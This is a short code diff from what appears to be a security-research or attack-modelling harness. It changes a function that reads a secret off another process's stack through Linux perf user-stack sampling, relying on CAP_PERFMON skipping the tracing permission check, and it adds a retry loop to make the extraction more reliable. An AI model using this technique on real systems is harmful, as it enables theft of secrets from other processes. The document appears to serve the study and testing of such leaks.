@@ -21,6 +21,7 @@ if TYPE_CHECKING:
 TRACING = "/sys/kernel/tracing"
 SECRET_SIZE = 32
 ALIGNMENT = 8
+LOOKS = 5
 
 PERFMON = "no hook sees it: with CAP_PERFMON, perf does not ask whether the task may be traced"
 
@@ -54,9 +55,13 @@ def perf_sample_stack(attacker: Attacker, handler: Handler) -> None:
     """Read the secret off the handler's stack, which perf samples whenever it sleeps."""
     event = PerfEvent(attacker, handler.pid, sample=PERF_SAMPLE_STACK_USER)
     event.map_ring()
-    handler.wait_for_request()
-    stacks = event.stacks()
-    if not any(stacks):
+    stacks: list[bytes] = []
+    for _ in range(LOOKS):
+        handler.wait_for_request()
+        stacks = event.stacks()
+        if any(stacks):
+            break
+    else:
         raise NoTarget("its samples carry no user stack")
     for stack in stacks:
         for at in range(0, len(stack) - SECRET_SIZE + 1, ALIGNMENT):
